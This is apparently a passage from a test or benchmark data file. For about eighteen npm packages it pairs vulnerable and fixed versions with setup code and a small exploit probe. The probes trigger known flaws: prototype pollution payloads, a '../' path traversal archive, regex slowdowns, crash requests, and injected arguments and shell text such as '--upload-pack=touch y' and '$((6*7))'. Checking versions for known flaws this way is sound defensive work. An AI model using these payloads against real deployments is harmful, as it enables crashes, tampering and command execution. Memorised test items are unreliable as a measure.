    package: 'http-proxy',
    from: '1.18.0',
    to: '1.18.1',
    setup: `${HTTP}
      const target = listen(http.createServer((req, res) => { req.resume().on('end', () => res.end('at ' + req.url)) })); let failed;
      const port = target.then((p) => { const proxy = lib.createProxyServer({ target: 'http://127.0.0.1:' + p }); proxy.on('proxyReq', (req) => { try { req.setHeader('x-by', 'proxy') } catch (error) { failed = error } }); proxy.on('error', () => {}); return listen(http.createServer((req, res) => proxy.web(req, res))) });`,
    work: `port.then((p) => get(p, '/x')).then((r) => r.body)`,
    exploit: `(async () => { failed = undefined; const p = await port; await new Promise((done) => { const req = http.request({ port: p, host: '127.0.0.1', method: 'POST', path: '/y', headers: { expect: '100-continue', 'content-length': 1 } }, (res) => { res.resume().on('end', done) }).on('error', done); req.flushHeaders(); setTimeout(() => req.end('x'), 5) }); return failed !== undefined })()`,
  },
  {
    package: 'json-schema',
    from: '0.3.0',
    to: '0.4.0',
    setup: POLLUTED,
    work: `[lib.validate({ a: 1 }, { properties: { a: { type: 'number' } } }).valid, lib.validate({ a: 'x' }, { properties: { a: { type: 'number' } } }).errors]`,
    exploit: `polluted(() => lib.validate({}, JSON.parse('{"properties": {"__proto__": {"type": "object", "properties": {"polluted": {"type": "string", "default": "yes"}}}}}')))`,
  },
  {
    package: 'multer',
    from: '2.0.1',
    to: '2.0.2',
    setup: `${HTTP} let crashed = false; process.on('uncaughtException', () => { crashed = true });
      const upload = lib({ fileFilter: (req, file, done) => setTimeout(() => done(null, true), 20) }).single('f'); const port = listen(http.createServer((req, res) => upload(req, res, (error) => res.end(error ? 'refused: ' + error.message : req.file?.originalname))));
      const body = '--x\\r\\nContent-Disposition: form-data; name="f"; filename="a.txt"\\r\\nContent-Type: text/plain\\r\\n\\r\\nhello\\r\\n--x--\\r\\n';`,
    work: `port.then((p) => post(p, body, 'multipart/form-data; boundary=x'))`,
    exploit: `(async () => { crashed = false; await Promise.race([port.then((p) => post(p, '--x\\r\\nContent-Disposition: form-data; name="f"; filename="a"\\r\\n\\r\\nhello', 'multipart/form-data; boundary=x')), new Promise((r) => setTimeout(r, 300))]); return crashed })()`,
  },
  {
    package: 'mysql2',
    from: '3.9.7',
    to: '3.9.8',
    setup: `const parser = require(require('node:path').join(require.resolve('mysql2'), '../lib/parsers/text_parser.js'));
      const config = { nestTables: true, namedPlaceholders: false };
      let tries = 0; const columns = (table) => [{ name: 'admin', length: ++tries, table, schema: '', columnType: 253, characterSet: 33, encoding: 'utf8', flags: 0 }];
      const row = { readLengthCodedString: () => 'yes', readLengthCodedBuffer: () => Buffer.from('yes') };
      const rows = (table) => { const made = parser(columns(table), { nestTables: true }, config); const T = made; return typeof T.prototype?.next === 'function' ? new T(columns(table)).next(row, columns(table), { nestTables: true }) : null };`,
    work: `rows('t')`,
    exploit: `(() => { try { rows('__proto__') } catch { return false } const bad = ({}).admin === 'yes'; delete Object.prototype.admin; return bad })()`,
  },
  {
    package: 'protobufjs',
    from: '6.11.2',
    to: '6.11.3',
    setup: `${POLLUTED} const root = lib.parse('message A { required int32 x = 1; }').root; const A = root.lookupType('A');`,
    work: `[A.decode(A.encode({ x: 7 }).finish()), lib.util.setProperty({}, 'a.b', 1)]`,
    exploit: `polluted(() => lib.util.setProperty({}, '__proto__.polluted', 'yes'))`,
  },
  {
    package: 'simple-git',
    from: '3.4.0',
    to: '3.5.0',
    setup: `const git = lib({ baseDir: __dirname, binary: 'true', errors: undefined });`,
    work: `git.raw('x')`,
    exploit: `git.clone('x', '--upload-pack=touch y').then(() => true, (error) => !/exploit/.test(error.message))`,
  },
  {
    package: 'decompress',
    from: '4.2.0',
    to: '4.2.1',
    setup: `${FILES} const tar = require('tar-stream'); let tries = 0;
      const packed = (entry, text) => new Promise((done) => { const pack = tar.pack(); pack.entry(entry, text); pack.finalize(); const all = []; pack.on('data', (d) => all.push(d)).on('end', () => done(Buffer.concat(all))) });`,
    work: `(async () => { const out = join(__dirname, 'out' + ++tries); await lib(await packed({ name: 'a.txt' }, 'text'), out); return readFileSync(join(out, 'a.txt'), 'utf8') })()`,
    exploit: `(async () => { const name = 'evil' + ++tries; await lib(await packed({ name: '../' + name }, 'x'), join(__dirname, 'out' + name)).catch(() => {}); return existsSync(join(__dirname, name)) })()`,
  },
  {
    package: 'express-fileupload',
    from: '1.1.8',
    to: '1.1.9',
    setup: `const nested = require('express-fileupload/lib/processNested'); ${POLLUTED}`,
    work: `nested({ 'a[b][0]': 1, c: 2 })`,
    exploit: `polluted(() => nested({ 'constructor.prototype.polluted': 'yes' })) || polluted(() => nested({ 'constructor[prototype][polluted]': 'yes' }))`,
  },
  {
    package: 'extend',
    from: '3.0.1',
    to: '3.0.2',
    setup: POLLUTED,
    work: `lib(true, { a: { b: 1 } }, { a: { c: [1, 2] } })`,
    exploit: `polluted(() => lib(true, {}, JSON.parse('{"__proto__": {"polluted": "yes"}}')))`,
  },
  {
    package: 'brace-expansion',
    from: '2.0.1',
    to: '2.0.2',
    setup: SLOW,
    work: `[lib('a{b,c}d{1..3}'), lib('{a},b}')]`,
    exploit: `slow(() => lib('{a}' + ','.repeat(60_000) + '\\u0000'))`,
  },
  {
    package: 'websocket-extensions',
    from: '0.1.3',
    to: '0.1.4',
    setup: `${SLOW} const extensions = new lib(); extensions.add({ name: 'x', type: 'permessage', rsv1: true, rsv2: false, rsv3: false, createServerSession: () => ({ generateResponse: () => ({ a: true }) }) });`,
    work: `new lib().generateOffer()`,
    exploit: `slow(() => new lib().generateResponse('a; b="' + '\\\\c'.repeat(26)))`,
  },
  {
    package: 'negotiator',
    from: '0.6.0',
    to: '0.6.1',
    setup: SLOW,
    work: `(() => { const n = new lib({ headers: { 'accept-language': 'en;q=0.8, de', accept: 'text/html, */*;q=0.1' } }); return [n.languages(), n.mediaTypes()] })()`,
    exploit: `slow(() => new lib({ headers: { 'accept-language': '-'.repeat(30_000) + ' x' } }).languages())`,
  },
  {
    package: 'morgan',
    from: '1.9.0',
    to: '1.9.1',
    work: `lib.compile(':method "x"')({ method: (req) => req.m }, { m: 'GET' }, {})`,
    exploit: `(() => { globalThis.pwned = false; try { lib.compile('\\\\" + (globalThis.pwned = true)//')({}, {}, {}) } catch {} return globalThis.pwned })()`,
  },
  {
    package: 'sockjs',
    from: '0.3.19',
    to: '0.3.20',
    setup: `${HTTP} let crashed = false; process.on('uncaughtException', () => { crashed = true });
      const server = http.createServer(); const echo = lib.createServer({ log() {} }); echo.on('connection', (c) => c.on('data', (m) => c.write(m))); echo.installHandlers(server, { prefix: '/echo' }); const port = listen(server);`,
    work: `port.then((p) => get(p, '/echo')).then((r) => [r.status, r.body])`,
    exploit: `(async () => { crashed = false; const p = await port; await new Promise((done) => { http.get({ port: p, host: '127.0.0.1', path: '/echo/a/b/htmlfile?c=x', headers: { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '1' } }, (r) => r.resume().on('end', done)).on('error', done).setTimeout(300, done) }); return crashed })()`,
  },
  {
    package: 'http-proxy-middleware',
    from: '2.0.6',
    to: '2.0.7',
    setup: `const proxy = lib.createProxyMiddleware('/api', { target: 'http://127.0.0.1:1', logLevel: 'silent' });
      const ask = (url) => new Promise((done) => proxy({ url }, {}, () => done('next')).catch((error) => done(error.code)));`,
    work: `ask('/other')`,
    exploit: `ask('http://[').then((result) => result === 'ERR_INVALID_URL')`,
  },
  {
    package: 'crypto-js',
    from: '4.1.1',
    to: '4.2.0',
    setup: `const strong = { iterations: 2, hasher: lib.algo.SHA256 };`,
    work: `[lib.MD5('x').toString(), lib.PBKDF2('p', 's', strong).toString()]`,
    exploit: `(() => { const { iterations, hasher } = lib.algo.PBKDF2.create().cfg; return iterations < 1000 || hasher === lib.algo.SHA1 })()`,
  },
  {
    package: 'growl',
    from: '1.9.2',
    to: '1.10.0',
    setup: `const say = (text) => new Promise((done) => lib(text, { exec: 'echo' }, (error, out) => done(out)));`,
    work: `say('hello')`,
    exploit: `say('$((6*7))').then((out) => out.trim() === '42')`,
  },
  {
    package: 'highlight.js',
    from: '9.18.1',
    to: '9.18.3',
    work: `[lib.highlight('javascript', 'var a = 1').value, lib.getLanguage('js').aliases]`,
    exploit: `['constructor', '__proto__'].some((name) => lib.getLanguage(name) !== undefined)`,
  },
]
